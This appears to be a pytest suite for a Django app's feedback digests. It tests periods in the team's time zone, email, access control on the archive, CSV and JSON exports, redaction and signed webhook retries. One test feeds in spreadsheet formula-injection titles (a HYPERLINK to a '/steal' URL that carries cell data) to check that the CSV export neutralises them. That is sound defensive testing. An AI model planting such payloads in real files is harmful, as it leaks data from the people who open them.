"""Feedback digests: periods in the team's time zone, contents for a fixed dataset, one
digest per team and period, email, the archive and exports, and the signed webhook with
retries (a real HTTP server on 127.0.0.1)."""

from __future__ import annotations

import csv
import hashlib
import hmac
import io
import json
import threading
from datetime import UTC, datetime, timedelta
from http.server import BaseHTTPRequestHandler, HTTPServer
from zoneinfo import ZoneInfo

import pytest
from django.core import mail
from django.utils import timezone
from taggit.models import Tag

from accounts.roles import PRODUCT_MANAGER
from community.actions.engagement import toggle_me_too
from support.actions.digests import post_webhook, retry_webhooks, run_digests
from support.actions.feedback import set_status
from support.digests import ItemFacts, StatusChange, build, period_containing, periods_due
from support.models import Digest, FeedbackItem, ProductTeam, WebhookDelivery

AUCKLAND = ZoneInfo("Pacific/Auckland")


def test_weekly_periods_start_on_monday_midnight_in_the_team_time_zone():
    # Wednesday 4 March 2026, 10:00 in Auckland (UTC+13 in summer).
    moment = datetime(2026, 3, 4, 10, 0, tzinfo=AUCKLAND)
    start, end = period_containing(moment, "weekly", "Pacific/Auckland")
    assert start == datetime(2026, 3, 2, 0, 0, tzinfo=AUCKLAND) and end - start == timedelta(days=7)
    day_start, day_end = period_containing(moment, "daily", "Pacific/Auckland")
    assert day_start == datetime(2026, 3, 4, 0, 0, tzinfo=AUCKLAND) and day_end - day_start == timedelta(
        days=1
    )


def test_missed_periods_are_caught_up_oldest_first_and_capped():
    now = datetime(2026, 3, 20, 12, 0, tzinfo=UTC)
    last_end = datetime(2026, 3, 15, 0, 0, tzinfo=UTC)
    due = periods_due(cadence="daily", time_zone="UTC", now=now, last_end=last_end, team_since=last_end)
    assert [start.day for start, _ in due] == [15, 16, 17, 18, 19]
    long_ago = datetime(2025, 1, 1, tzinfo=UTC)
    assert (
        len(periods_due(cadence="daily", time_zone="UTC", now=now, last_end=long_ago, team_since=long_ago))
        == 8
    )


def test_the_digest_lists_new_most_demanded_trending_changes_and_quotes():
    start, end = datetime(2026, 3, 2, tzinfo=UTC), datetime(2026, 3, 9, tzinfo=UTC)

    def item(pk, created, demand, now, before, body="Please add this, we need it every month."):
        return ItemFacts(pk, f"Item {pk}", f"/q/{pk}", "idea", "New", created, demand, now, before, body)

    items = [
        item(1, start + timedelta(days=1), demand=2, now=2, before=0),
        item(2, start - timedelta(days=30), demand=9, now=1, before=4),
        item(3, start + timedelta(days=2), demand=5, now=3, before=1, body="x " * 200),
    ]
    changes = [StatusChange(2, "Item 2", "/q/2", "Planned", start + timedelta(days=3))]
    digest = build(team="Invoicing", start=start, end=end, items=items, changes=changes)
    assert [row["title"] for row in digest["new"]] == ["Item 3", "Item 1"]
    assert [row["title"] for row in digest["most_demanded"]] == ["Item 2", "Item 3", "Item 1"]
    assert [row["title"] for row in digest["trending"]] == ["Item 1", "Item 3"]  # item 2 fell
    assert digest["status_changes"][0]["status"] == "Planned"
    assert digest["quotes"][0]["quote"].endswith("…") and len(digest["quotes"][0]["quote"]) <= 160


@pytest.fixture
def team(db, user_factory):
    for name in ("feature-request", "invoices"):
        Tag.objects.get_or_create(name=name, defaults={"slug": name})
    team = ProductTeam.objects.create(
        name="Invoicing", slug="invoicing", product_tags="invoices", digest_cadence="daily",
        digest_recipients="pm@example.com\nlead@example.com",
    )  # fmt: skip
    team.members.add(user_factory(username="priya", roles=(PRODUCT_MANAGER,)))
    return team


@pytest.fixture
def yesterday_feedback(team, question_factory, user_factory):
    question = question_factory(title="Let me pay invoices by card", tags=["feature-request", "invoices"])
    toggle_me_too(question, user=user_factory())
    item = FeedbackItem.objects.get(question=question)
    set_status(item, status="under_review", response="Looking at card payments.", by=team.members.get())
    yesterday = timezone.now() - timedelta(days=1)
    FeedbackItem.objects.filter(pk=item.pk).update(created_at=yesterday)
    item.history.update(at=yesterday)
    question.me_toos.update(created_at=yesterday)
    return item


def test_one_digest_per_team_and_period_emailed_as_html_and_text(
    yesterday_feedback, team, django_capture_on_commit_callbacks
):
    mail.outbox.clear()
    with django_capture_on_commit_callbacks(execute=True):
        assert run_digests() == 1
    with django_capture_on_commit_callbacks(execute=True):
        assert run_digests() == 0  # beat fired twice: nothing new
    digest = Digest.objects.get()
    assert [row["title"] for row in digest.content["new"]] == ["Let me pay invoices by card"]
    assert digest.content["status_changes"][0]["status"] == "Under review"
    assert digest.content["trending"][0]["this_period"] == 1
    [message] = mail.outbox
    assert sorted(message.to) == ["lead@example.com", "pm@example.com"]
    assert "Let me pay invoices by card" in message.body
    html = message.alternatives[0][0]
    assert "<h2>New feedback (1)</h2>" in html and "card payments" not in html  # quotes come from customers
    assert digest.emailed_at is not None


def test_the_archive_and_its_exports_are_for_the_team_only(
    client, yesterday_feedback, team, member, user_factory, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        run_digests()
    digest = Digest.objects.get()
    client.force_login(team.members.get())
    assert "Invoicing" in client.get("/feedback/digests/").content.decode()
    assert "Let me pay invoices by card" in client.get(f"/feedback/digests/{digest.pk}/").content.decode()
    exported = json.loads(client.get(f"/feedback/digests/{digest.pk}/?format=json").content)
    assert exported["new"][0]["title"] == "Let me pay invoices by card"
    rows = list(
        csv.reader(io.StringIO(client.get(f"/feedback/digests/{digest.pk}/?format=csv").content.decode()))
    )
    assert rows[0] == ["section", "title", "url", "detail"] and any(row[0] == "new" for row in rows[1:])
    assert client.get(f"/feedback/digests/{digest.pk}/?format=pdf").status_code == 400
    other_pm = user_factory(roles=(PRODUCT_MANAGER,))
    ProductTeam.objects.create(name="Payroll", slug="payroll").members.add(other_pm)
    client.force_login(other_pm)
    assert client.get(f"/feedback/digests/{digest.pk}/").status_code == 403
    assert "Let me pay" not in client.get("/feedback/digests/").content.decode()
    client.force_login(member)
    assert client.get("/feedback/digests/").status_code == 403
    assert client.get(f"/feedback/digests/{digest.pk}/?format=json").status_code == 403


def _digest_of_yesterday(question, seconder, capture_on_commit) -> Digest:
    """The digest beat builds when ``question`` became feedback yesterday, seconded once."""
    toggle_me_too(question, user=seconder)
    yesterday = timezone.now() - timedelta(days=1)
    FeedbackItem.objects.filter(question=question).update(created_at=yesterday)
    question.me_toos.update(created_at=yesterday)
    with capture_on_commit(execute=True):
        run_digests()
    return Digest.objects.get()


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])  # OWASP's formula starts
def test_the_digest_csv_neutralises_titles_that_start_a_formula(
    client, team, question_factory, user_factory, django_capture_on_commit_callbacks, prefix
):
    title = f'{prefix}HYPERLINK("http://127.0.0.1/steal?"&A1,"Click me") card payments'
    question = question_factory(title=title, tags=["feature-request", "invoices"])
    digest = _digest_of_yesterday(question, user_factory(), django_capture_on_commit_callbacks)
    client.force_login(team.members.get())
    exported = client.get(f"/feedback/digests/{digest.pk}/?format=csv").content.decode()
    rows = list(csv.reader(io.StringIO(exported, newline="")))
    titles = [row[1] for row in rows[1:] if len(row) > 1]
    assert titles and all(cell == "'" + question.title for cell in titles)
    # JSON keeps what the member wrote, untouched.
    as_json = json.loads(client.get(f"/feedback/digests/{digest.pk}/?format=json").content)
    assert as_json["new"][0]["title"] == question.title


def test_redacting_a_thread_scrubs_the_digests_built_before(
    client, team, question_factory, user_factory, advocate, django_capture_on_commit_callbacks
):
    secret = "dana.private@example.com"
    question = question_factory(
        title="Let me pay invoices by card", tags=["feature-request", "invoices"],
        body=f"We need card payments every month; write to {secret} for our volumes.",
    )  # fmt: skip
    digest = _digest_of_yesterday(question, user_factory(), django_capture_on_commit_callbacks)
    assert secret in json.dumps(digest.content)  # quoted from the body
    client.force_login(advocate)
    response = client.post(f"/questions/{question.pk}/redact/", {"text": secret, "reason": "personal data"})
    assert response.status_code == 302
    digest.refresh_from_db()
    assert secret not in json.dumps(digest.content) and "[redacted]" in json.dumps(digest.content)
    client.force_login(team.members.get())
    for export in ("", "?format=json", "?format=csv"):
        assert secret not in client.get(f"/feedback/digests/{digest.pk}/{export}").content.decode()


class _Receiver(BaseHTTPRequestHandler):
    secret = ""
    fail_first = 0
    received: list[dict] = []

    def do_POST(self):
        body = self.rfile.read(int(self.headers["Content-Length"]))
        expected = "sha256=" + hmac.new(self.secret.encode(), body, hashlib.sha256).hexdigest()
        valid = hmac.compare_digest(expected, self.headers.get("X-Askwell-Signature", ""))
        type(self).received.append({"valid": valid, "body": json.loads(body)})
        if type(self).fail_first > 0:
            type(self).fail_first -= 1
            self.send_response(503)
        else:
            self.send_response(204 if valid else 401)
        self.end_headers()

    def log_message(self, *args):
        return None


@pytest.fixture
def receiver():
    server = HTTPServer(("127.0.0.1", 0), _Receiver)
    _Receiver.received = []
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()


def test_the_webhook_is_signed_and_a_failing_one_is_retried_with_backoff(
    yesterday_feedback, team, receiver, settings, django_capture_on_commit_callbacks
):
    settings.SUPPORT_WEBHOOK_BACKOFF_SECONDS = 60
    team.webhook_url = f"http://127.0.0.1:{receiver.server_port}/hooks/askwell"
    team.save()
    _Receiver.secret = team.webhook_secret
    _Receiver.fail_first = 2
    with django_capture_on_commit_callbacks(execute=True):
        run_digests()
    digest = Digest.objects.get()
    assert [d.status_code for d in digest.deliveries.all()] == [503]
    first = digest.deliveries.get().at
    assert retry_webhooks(now=first + timedelta(seconds=30)) == 0  # backoff not over
    assert retry_webhooks(now=first + timedelta(seconds=61)) == 1  # 2nd attempt: 503 again
    assert retry_webhooks(now=first + timedelta(seconds=61 + 90)) == 0  # now it waits 120 s
    assert retry_webhooks(now=first + timedelta(seconds=61 + 121)) == 1
    digest.refresh_from_db()
    assert digest.webhook_delivered_at is not None
    assert [(d.attempt, d.status_code, d.succeeded) for d in digest.deliveries.all()] == [
        (1, 503, False), (2, 503, False), (3, 204, True),
    ]  # fmt: skip
    assert all(hit["valid"] for hit in _Receiver.received)
    assert _Receiver.received[-1]["body"]["new"][0]["title"] == "Let me pay invoices by card"
    assert retry_webhooks(now=first + timedelta(days=1)) == 0  # delivered: done


def test_a_wrong_secret_is_refused_by_the_receiver_and_logged(yesterday_feedback, team, receiver):
    team.webhook_url = f"http://127.0.0.1:{receiver.server_port}/"
    team.save()
    _Receiver.secret = "not-the-team-secret"
    _Receiver.fail_first = 0
    digest = Digest.objects.create(
        team=team,
        period_start=timezone.now(),
        period_end=timezone.now(),
        built_at=timezone.now(),
        content={"new": []},
    )
    delivery = post_webhook(digest)
    assert delivery.status_code == 401 and not delivery.succeeded
    team.webhook_url = "http://127.0.0.1:9/nothing-listens-here"
    team.save()
    digest.refresh_from_db()
    assert not post_webhook(digest).succeeded
    assert WebhookDelivery.objects.filter(digest=digest).count() == 2
